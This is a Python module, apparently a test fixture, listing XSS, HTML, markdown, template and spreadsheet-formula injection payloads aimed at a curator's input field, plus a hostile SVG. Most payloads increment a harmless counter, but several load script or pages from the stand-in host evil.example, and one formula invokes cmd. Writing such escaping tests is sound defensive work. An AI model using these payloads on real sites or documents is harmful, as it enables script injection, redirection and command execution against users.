"""What somebody might type into a curator's field so that it does more than be read."""

from __future__ import annotations

RUN = "top.RAN++"
"""What every one of them tries to do: a page whose `RAN` was 0 has then counted it."""
EVIL = "https://evil.example/"

PAYLOADS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"'><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"`\"'><svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>tap</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<a href='javascript:{RUN}'>tap</a>",
    f"<a href='&#106;avascript:{RUN}'>tap</a>",
    f"<a href='java\tscript:{RUN}'>tap</a>",
    f"<a href='{EVIL}' target=_blank>tap</a>",
    "<a href='//evil.example' download>tap</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD50b3AuUkFOPTE8L3NjcmlwdD4='>tap</a>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='{EVIL}'></iframe><embed src='//evil.example'>",
    f"<details open ontoggle={RUN}><summary>tap</summary></details>",
    f"<form action=//evil.example><input autofocus onfocus={RUN}><button>tap",
    f"<base href={EVIL}><link rel=stylesheet href=//evil.example>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<style>@import '//evil.example';*{{background:url({EVIL})}}</style>",
    f"red;background:url({EVIL});width:expression({RUN})",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"[tap](javascript:{RUN}) [tap]({EVIL}) <{EVIL}>",
    f"![x]({EVIL}x.png)\n\n[tap][r]\n\n[r]: javascript:{RUN}",
    f"[tap]{{onclick={RUN}}} [tap]{{lang='x\" onclick=\"{RUN}'}}",
    f"{{{{7*7}}}}{{% for x in y %}}${{{RUN}}}#{{{RUN}}}<%= 7*7 %>",
    f"');{RUN};//",
    f'");{RUN};//',
    f"\\');{RUN};//\\",
    f"`${{{RUN}}}`",
    f"\u2028{RUN}\u2029",
    f'=HYPERLINK("{EVIL}","tap")',
    f"@SUM(1+1)*cmd|' /C {EVIL}'!A0",
    f"\u202egnp.<script>{RUN}</script>\u2066",
    f"javascript:{RUN}",
    f"x onmouseover={RUN} x=",
    f'x" onpointerdown="{RUN}" x=\'',
    f"<p style='position:fixed;inset:0;z-index:9' onpointerdown={RUN}>cover</p>",
)
DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" width="640" height="240" onload="{RUN}">
  <script>{RUN}</script><a href="{EVIL}"><rect width="640" height="240" onclick="{RUN}"/></a>
  <image href="{EVIL}x.png" width="9" height="9"/><foreignObject><iframe src="{EVIL}"/></foreignObject>
</svg>"""
"""A picture that is a page."""
